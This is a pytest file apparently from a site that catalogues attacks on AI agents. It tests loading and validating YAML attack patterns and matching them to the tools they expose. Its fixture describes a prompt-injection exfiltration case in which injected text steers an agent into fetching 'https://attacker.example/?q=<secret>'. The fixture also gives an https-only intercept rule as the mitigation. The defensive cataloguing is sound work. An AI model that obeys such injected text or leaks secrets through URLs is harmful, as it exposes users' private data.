"""Attack patterns are data, validated like the catalogue; tools link the patterns they are exposed to."""

from __future__ import annotations

from pathlib import Path

import pytest

from site_builder.content.attacks import exposed_to, load_attacks
from site_builder.errors import UserError

from tests.helpers import ROOT

GOOD = """slug: {slug}
title: Data exfiltration through URLs
summary: An agent is steered into putting data into a URL it fetches.
how_it_works: |
  Injected text asks the agent to fetch `https://attacker.example/?q=<secret>`.
exposed_by:
  effects: [sends_out]
  arguments: [url]
mitigation: |
  Confine URLs to https named hosts.
intercept: |
  version: "1"
  default: deny
  tools:
    fetch:
      rules:
        - name: fetch https only
          conditions:
            - path: args.url
              op: regex
              value: '^https://[a-z0-9.-]+\\.[a-z]{{2,}}/'
          on_deny: fetch only https URLs
sources:
  - title: OWASP Top 10 for LLM Applications
    url: https://genai.owasp.org/llm-top-10/
"""


def write(folder: Path, name: str, text: str) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")


def test_a_valid_pattern_loads_and_matches_exposure_keys(tmp_path: Path) -> None:
    write(tmp_path, "url-exfiltration.yaml", GOOD.format(slug="url-exfiltration"))
    [pattern] = load_attacks(tmp_path)
    assert pattern.exposes({"effect:sends_out"}) and not pattern.exposes({"category:read"})
    assert exposed_to((pattern,), ("category:write", "argument:url")) == (pattern,)


def test_every_problem_of_every_file_is_reported_with_file_line_and_field(tmp_path: Path) -> None:
    write(tmp_path, "a.yaml", GOOD.format(slug="a").replace("effects: [sends_out]", "effects: [leaks]"))
    write(tmp_path, "b.yaml", GOOD.format(slug="b").replace("op: regex", "op: matches"))
    write(tmp_path, "c.yaml", GOOD.format(slug="not-c"))
    write(tmp_path, "d.yaml", GOOD.format(slug="d").replace("sources:\n  - title: OWASP Top 10 for LLM Applications\n"
                                                          "    url: https://genai.owasp.org/llm-top-10/\n", ""))
    with pytest.raises(UserError) as caught:
        load_attacks(tmp_path)
    report = caught.value.report()
    assert "a.yaml:7 exposed_by.effects.0" in report
    assert "b.yaml:" in report and "Intercept would refuse the snippet" in report
    assert "c.yaml:1 slug" in report and "name the file not-c.yaml" in report
    assert "d.yaml" in report and "source" in report


def test_the_default_patterns_load_and_every_snippet_is_valid() -> None:
    patterns = load_attacks(ROOT / "content" / "attacks")
    assert len(patterns) >= 12
    assert len({p.slug for p in patterns}) == len(patterns)
